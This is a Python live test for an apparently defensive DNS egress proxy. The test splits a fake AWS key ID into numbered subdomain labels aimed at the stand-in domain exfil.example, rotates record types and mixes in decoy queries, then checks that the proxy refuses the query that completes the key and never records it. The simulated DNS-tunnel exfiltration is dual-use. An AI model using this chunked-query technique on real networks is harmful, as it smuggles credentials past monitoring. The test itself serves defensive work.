"""Live (attack31, root): attack26's `tun` listener with a real mitmdump and the bundle. A key spread one label per
query to one domain, each query with a sequence number in a label of its own, its type A, AAAA, TXT or HTTPS in
turn, and an ordinary query to the same domain between two pieces (`www.exfil.example`): every query reached the
sink before (the numbers and the ordinary query broke open30's join), the key whole at the resolver. Now the query
that completes it is refused and recorded. Checked: what the sink (the upstream) received, and every byte the proxy
wrote (log, index, .mitm)."""

from __future__ import annotations

import json
import socket
import time
from pathlib import Path

import pytest

from tests import fakes
from tests.live import harness
from tests.live.tun import dns_query as query
from tests.live.tun import received, start_tun_proxy

pytestmark = [pytest.mark.live, pytest.mark.root]

AKID = fakes.aws_key_id(3133)
DEVICE = "egtun31"
NETWORK = "198.18.231.0/24"
TYPES = (1, 28, 16, 65)  # A, AAAA, TXT, HTTPS




def test_a_numbered_tunnel_among_ordinary_queries_is_refused_at_its_last_piece(tmp_path, upstream):
    sink = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sink.bind(("127.0.0.1", 0))
    record = tmp_path / "rec"
    proxy = start_tun_proxy(tmp_path, upstream, DEVICE, NETWORK, sink.getsockname()[1], record)
    try:
        agent = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        pieces = [AKID.lower()[i:i + 4] for i in range(0, 20, 4)]
        for i, piece in enumerate(pieces):
            agent.sendto(query(f"{i}.{piece}.exfil.example", 0x3100 + i, TYPES[i % 4]), ("198.18.231.6", 53))
            time.sleep(0.05)  # in order, as a tunnel sends them (not a timing assertion)
            if i < len(pieces) - 1:
                agent.sendto(query("www.exfil.example", 0x3200 + i, 1), ("198.18.231.6", 53))
                time.sleep(0.05)
        got = received(sink)
        assert not [d for d in got if pieces[-1].encode() in d], "the completing query reached the sink"
        assert all(any(p.encode() in d for d in got) for p in pieces[:-1])  # the pieces before it went on
        assert sum(b"\x03www" in d for d in got) == len(pieces) - 1
        time.sleep(0.5)
        assert proxy.stop() == 0
        written = harness.written(record)
        for spelling in (AKID, AKID.lower(), pieces[-1]):
            assert spelling.encode() not in written and spelling not in proxy.log
        assert not [p for p in pieces if p.encode() in written]
        events = [json.loads(line) for p in Path(record).rglob("*.jsonl") for line in p.read_text().splitlines()]
        refused = [e for e in events if e.get("event") == "dns_refused"]
        assert len(refused) == 1 and refused[0]["questions"] == ["[labels withheld].exfil.example"]
        tallied = [e for e in events if e.get("event") == "dns_query"]
        assert sum(e["count"] for e in tallied if e["domain"] == "exfil.example") == 2 * len(pieces) - 2
    finally:
        proxy.stop()
